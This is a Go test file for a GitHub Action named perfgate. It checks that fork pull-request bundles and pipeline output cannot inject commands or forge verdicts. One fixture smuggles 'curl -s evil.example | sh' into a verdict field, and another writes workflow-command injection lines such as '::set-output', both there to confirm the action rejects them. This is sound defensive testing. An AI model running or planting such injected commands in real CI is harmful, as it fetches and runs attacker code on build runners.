package main

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/perfgate/perfgate/compare"
	"github.com/perfgate/perfgate/ghaction"
	"github.com/perfgate/perfgate/internal/githubapi"
	"github.com/perfgate/perfgate/internal/githubapi/githubapitest"
	"github.com/perfgate/perfgate/report"
)

// forkBundle runs the pull_request half of the fork-safe pair and returns
// the comment bundle it wrote.
func forkBundle(t *testing.T, srv *githubapitest.Server) string {
	t.Helper()
	pr := newActionRun(t, srv, "pull_request_fork")
	bundle := filepath.Join(pr.dir, "bundle")
	pr.vars["INPUT_COMMENT"] = "false"
	pr.vars["INPUT_COMMENT-DIR"] = bundle
	delete(pr.vars, "INPUT_GITHUB-TOKEN")
	pr.run(fakeGate(t, compare.Pass, "c.json"))
	return bundle
}

// The bundle of a fork's run is untrusted: a verdict in it that perfgate
// never writes must not reach the step outputs, where a later
// `run: echo ${{ steps.perfgate.outputs.verdict }}` would execute it.
func TestActionCommentModeWritesOnlyKnownVerdicts(t *testing.T) {
	srv := githubapitest.NewServer(t, "acme", "svc", actionToken)
	srv.HeadSHA[23] = forkHead
	bundle := forkBundle(t, srv)
	path := filepath.Join(bundle, "report.json")
	var doc map[string]any
	b, _ := os.ReadFile(path)
	if err := json.Unmarshal(b, &doc); err != nil {
		t.Fatal(err)
	}
	doc["comparison"].(map[string]any)["verdict"] = `pass"; curl -s evil.example | sh; echo "`
	b, _ = json.Marshal(doc)
	os.WriteFile(path, b, 0o644)

	r := newActionRun(t, srv, "workflow_run")
	r.run(pipelines{}, "--comment-from", bundle)
	got := r.outputs()["verdict"]
	if !slices.Contains(actionVerdicts(), got) {
		t.Errorf("verdict output = %q, want one of the documented %v", got, actionVerdicts())
	}
}

// Text a pull request controls (scenario names, a target's log) that a
// pipeline prints can never start a line with "::", where the runner
// would take it for a workflow command; the action's own commands still
// work.
func TestActionPipelineOutputCannotIssueCommands(t *testing.T) {
	srv := githubapitest.NewServer(t, "acme", "svc", actionToken)
	evil := "scenario x\n::warning::pwned\n  ::add-mask::x\n::error file=a::b\n::"
	p := fakeGate(t, compare.Pass, "c.json")
	gate := p.gate
	p.gate = func(ctx context.Context, e *env, in ghaction.Inputs) (*gateOutcome, error) {
		e.stderr.Write([]byte(evil))
		e.stderr.Write([]byte(":set-output name=verdict::fail\n"))
		e.stdout.Write([]byte("progress\n::group::x\n"))
		return gate(ctx, e, in)
	}
	r := newActionRun(t, srv, "pull_request")
	r.run(p)
	for name, out := range map[string]string{"stdout": r.stdout.String(), "stderr": r.stderr.String()} {
		for _, line := range strings.Split(out, "\n") {
			l := strings.TrimLeft(line, " \t\r")
			if strings.HasPrefix(l, "::warning::pwned") || strings.HasPrefix(l, "::add-mask::x") ||
				strings.HasPrefix(l, "::error file=a") || strings.HasPrefix(l, "::set-output") || strings.HasPrefix(l, "::group::x") {
				t.Errorf("%s has a workflow command from untrusted text: %q", name, line)
			}
		}
	}
	if !strings.Contains(r.stdout.String(), "::add-mask::"+actionToken) {
		t.Errorf("the action's own commands are gone:\n%s", r.stdout.String())
	}
}

// The sticky comment is the expected bot's: a comment by another bot (or
// app) that carries the marker is never edited.
func TestActionStickyMatchesItsBotLogin(t *testing.T) {
	tests := []struct {
		name   string
		input  string // INPUT_COMMENT-AUTHOR
		author githubapi.User
		edited bool
	}{
		{name: "github-actions by default", author: githubapitest.Bot, edited: true},
		{name: "another bot is not ours", author: githubapi.User{Login: "dependabot[bot]", Type: "Bot"}},
		{name: "a human is never ours", author: githubapi.User{Login: "github-actions", Type: "User"}},
		{name: "github-actions when another login is configured", input: "perfgate-app[bot]", author: githubapitest.Bot},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			srv := githubapitest.NewServer(t, "acme", "svc", actionToken)
			old := srv.AddComment(17, tt.author, "old report\n"+githubapi.Marker(""))
			r := newActionRun(t, srv, "pull_request")
			if tt.input != "" {
				r.vars["INPUT_COMMENT-AUTHOR"] = tt.input
			}
			r.run(fakeGate(t, compare.Pass, "c.json"))
			cs := srv.Comments(17)
			edited := cs[0].ID == old.ID && cs[0].Body != old.Body
			if edited != tt.edited {
				t.Errorf("comment by %s edited = %v, want %v (comments: %d)", tt.author.Login, edited, tt.edited, len(cs))
			}
			if !tt.edited && len(cs) != 2 {
				t.Errorf("%d comments, want the untouched one and a new one", len(cs))
			}
		})
	}
}

// A fork's bundle whose headline says pass over scenarios that make it
// something else by the gate's rule (a regression marked invalid to hide
// it; scenarios all inconclusive) is refused: the verdict output is
// error, never pass, the step fails (exit 2) and nothing is posted.
func TestActionCommentModeRecomputesTheVerdict(t *testing.T) {
	gated := func(v compare.Verdict) []compare.Metric {
		return []compare.Metric{{Metric: compare.MetricP99, Verdict: v, Gated: true}}
	}
	tests := []struct {
		name      string
		scenarios []compare.ScenarioComparison
	}{
		{"pass over a regressed scenario marked invalid", []compare.ScenarioComparison{
			{Scenario: "ok", Verdict: compare.Unchanged, Metrics: gated(compare.Unchanged)},
			{Scenario: "hidden", Verdict: compare.Regressed, Invalid: true, Metrics: gated(compare.Regressed)}}},
		{"pass over all-inconclusive scenarios", []compare.ScenarioComparison{
			{Scenario: "a", Verdict: compare.Inconclusive, Metrics: gated(compare.Inconclusive)},
			{Scenario: "b", Verdict: compare.Inconclusive, Metrics: gated(compare.Inconclusive)}}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			srv := githubapitest.NewServer(t, "acme", "svc", actionToken)
			srv.HeadSHA[23] = forkHead
			bundle := t.TempDir()
			c := &compare.Comparison{Schema: compare.Schema, Verdict: compare.Pass, Scenarios: tt.scenarios, Settings: compare.DefaultSettings()}
			if err := ghaction.WriteBundle(bundle, &report.Report{Comparison: c}, ghaction.BundlePR{Number: 23, HeadSHA: forkHead}); err != nil {
				t.Fatal(err)
			}
			r := newActionRun(t, srv, "workflow_run")
			code := r.run(pipelines{}, "--comment-from", bundle)
			if got := r.outputs()["verdict"]; got != "error" || code != exitUsage {
				t.Errorf("exit %d, verdict output %q; want exit %d and error\n%s", code, got, exitUsage, r.stderr.String())
			}
			if n := len(srv.Comments(23)); n != 0 {
				t.Errorf("%d comments posted from a forged bundle", n)
			}
		})
	}
}
